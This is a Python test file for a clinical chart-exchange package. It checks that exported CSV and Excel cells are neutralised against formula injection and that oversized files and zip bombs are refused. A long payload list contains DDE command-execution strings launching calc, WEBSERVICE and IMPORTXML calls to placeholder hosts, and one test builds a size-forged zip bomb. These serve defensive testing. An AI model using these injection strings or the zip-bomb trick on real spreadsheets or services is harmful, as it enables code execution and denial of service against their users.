"""What we write cannot run as a formula; what we read cannot take the machine down; and a registry is read quickly."""

import csv
import re
import subprocess
import sys
import time
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from hscape.chart import Chart, CloneMeasurement, Measurement, Treatment
from hscape.exchange import read_charts, write_charts, write_rows
from hscape.exchange.safe_text import safe_cell, safe_text

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "  \t =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1"',
    "'=1+1",
    '=HYPERLINK("http://x.example","ok")',
    '=IMPORTXML(CONCAT("http://x",A1),"//a")',
    '=WEBSERVICE("http://x")',
    '=DDE("cmd","/C calc","1")',
    "%0A=1+1",
    "|calc",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    '="a"&"b"',
    "=A1",
    "=-1",
    "=+1",
    "-2+3+cmd|' /C calc'!A0",
    "@=1",
    "+=1",
    "-=1",
    "=\n1",
    "\v=1",
    "\f=1",
    "\x1f=1",
    "=1;=2",
    "=TABLE(A1,B1)",
    '=INDIRECT("A1")',
    '=CALL("x")',
    '=REGISTER("x")',
    '=EXEC("x")',
    "=1/0",
    "=#REF!",
    "{=1}",
    "＝＝1",
    "\t\t@x",
    "\r\n+x",
    "=1\x00",
    "\x85=1",
    "\u2003@x",
]


def is_live(text):
    """Whether a spreadsheet may take a CSV cell for a formula."""
    return bool(re.match(r"^[\s\u200b\ufeff\x00]*[=+\-@＝＋－＠]", text))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_stays_live_in_csv(tmp_path, payload):
    path = tmp_path / "out.csv"
    write_rows(path, ["a", payload], [[payload, -1.5]])
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert not is_live(rows[0][1])
    assert not is_live(rows[1][0])
    assert rows[1][1] == "-1.5"  # numbers stay numbers


@given(st.text(max_size=30))
def test_no_text_stays_live(text):
    assert not is_live(safe_text(text))


def test_numbers_are_not_touched():
    assert safe_cell(-3) == -3
    assert safe_cell(None) == ""


def test_no_formula_in_what_excel_gets(tmp_path):
    charts = [
        Chart(
            patient_id=f"A-{index}",
            treatments=(Treatment(name=payload, start_day=0, detail=payload),),
            clone_measurements=(
                CloneMeasurement(
                    day=0,
                    clone=payload,
                    kind="gene",
                    assay="sequencing",
                    specimen="blood",
                    status="positive",
                    variant=payload,
                ),
            ),
        )
        for index, payload in enumerate(PAYLOADS)
    ]
    path = write_charts(charts, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if "worksheets/sheet" in name:
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)


def test_a_lying_zip_is_refused(tmp_path):
    """The archive declares a small size for a part that inflates to much more."""
    path = tmp_path / "lie.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/big.bin", b"\0" * 60_000_000)
    content = bytearray(path.read_bytes())
    size = (60_000_000).to_bytes(4, "little")
    for position in [match.start() for match in re.finditer(re.escape(size), bytes(content))]:
        content[position : position + 4] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(content))
    (issue,) = read_charts(path).issues
    assert issue.code in ("zip_bomb", "workbook_damaged")


def test_a_huge_file_is_refused_without_reading_it(tmp_path):
    path = tmp_path / "huge.csv"
    with path.open("wb") as stream:
        stream.truncate(60_000_000)
    start = time.perf_counter()
    (issue,) = read_charts(path).issues
    assert issue.code == "file_too_large"
    assert time.perf_counter() - start < 0.5


fuzz = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
odd_cells = st.text(st.sampled_from("0123456789.,;-/<>%=ABCnapeµ \"'\t万年"), max_size=9)


@fuzz
@given(st.binary(max_size=300), st.sampled_from(("csv", "xlsx", "json", "yaml", "txt", "xls")))
def test_any_bytes_give_issues_and_no_exception(tmp_path, content, ending):
    path = tmp_path / f"any.{ending}"
    path.write_bytes(content)
    result = read_charts(path)
    assert result.issues


@fuzz
@given(st.lists(st.lists(odd_cells, min_size=6, max_size=6), max_size=6))
def test_any_cells_give_issues_and_no_exception(tmp_path, rows):
    path = tmp_path / "any.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(
            [["patient", "date", "Hb", "PLT (10^9/L)", "neutrophils (%)", "PNH granulocytes"], *rows]
        )
    read_charts(path)


@fuzz
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    (
                        "patient_id",
                        "measurements",
                        "day",
                        "analyte",
                        "value",
                        "unit",
                        "flags",
                        "taper",
                        "events",
                        "hla_typing",
                        "alleles",
                        "clone_measurements",
                        "notes",
                    )
                ),
                inner,
                max_size=4,
            )
        ),
    )
)
def test_any_json_gives_issues_and_no_exception(tmp_path, content):
    import json

    path = tmp_path / "any.json"
    path.write_text(json.dumps(content), encoding="utf-8")
    read_charts(path)


@pytest.fixture(scope="module")
def registry(tmp_path_factory):
    """10,000 rows of twelve columns in one sheet of Excel."""
    import datetime

    import xlsxwriter
    from courses import HEADERS, make_cohort, rows_of

    path = tmp_path_factory.mktemp("registry") / "registry.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet, dates = book.add_worksheet("Visits"), book.add_format({"num_format": "yyyy-mm-dd"})
    names = [name for name in HEADERS if name not in ("platelet_units", "g_csf")]
    for column, name in enumerate(names):
        sheet.write_string(0, column, "date" if name == "date" else HEADERS[name])
    index = 0
    for patient in make_cohort(700, 8):
        for row in rows_of(patient):
            if index == 10_000:
                break
            index += 1
            for column, name in enumerate(names):
                if name == "patient":
                    sheet.write_string(index, column, row[name])
                elif name == "date":
                    sheet.write_datetime(
                        index,
                        column,
                        datetime.datetime(2018, 1, 1) + datetime.timedelta(days=int(row[name])),
                        dates,
                    )
                else:
                    sheet.write_number(index, column, float(row[name]))
    book.close()
    assert index == 10_000
    return path


@pytest.mark.skipif(sys.gettrace() is not None, reason="tracing for coverage slows every line")
def test_10000_rows_of_excel_cost_a_small_multiple_of_opening_the_sheet(registry):
    """A ratio within one run, since machines differ: bare cells took 0.1 s where this was set, and 2 s are promised."""

    def seconds(work) -> float:  # of the processor, so that a busy machine does not decide
        start = time.process_time()
        work()
        return time.process_time() - start

    def cells():
        book = CalamineWorkbook.from_path(str(registry))
        return [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]

    pairs = [(seconds(cells), seconds(lambda: read_charts(registry))) for _ in range(3)]
    assert sum(len(chart.measurements) for chart in read_charts(registry).charts) > 80_000
    assert min(whole / bare for bare, whole in pairs) < 20.0, pairs


def test_reading_and_fractions_do_not_load_the_simulator():
    code = (
        "import sys, hscape.exchange, hscape.fractions, hscape.chart\n"
        "bad = [name for name in sys.modules if name.startswith(('numba', 'hscape.biology', "
        "'hscape.dynamics', 'hscape.patient'))]\n"
        "assert not bad, bad"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_plain_measurement_checks_are_the_same_as_the_slow_ones():
    with pytest.raises(ValueError, match="outside"):
        Measurement(day=0.0, analyte="platelets_1e9_per_l", value=3001.0)
    with pytest.raises(ValueError, match="finite"):
        Measurement(day=float("inf"), analyte="platelets_1e9_per_l", value=1.0)
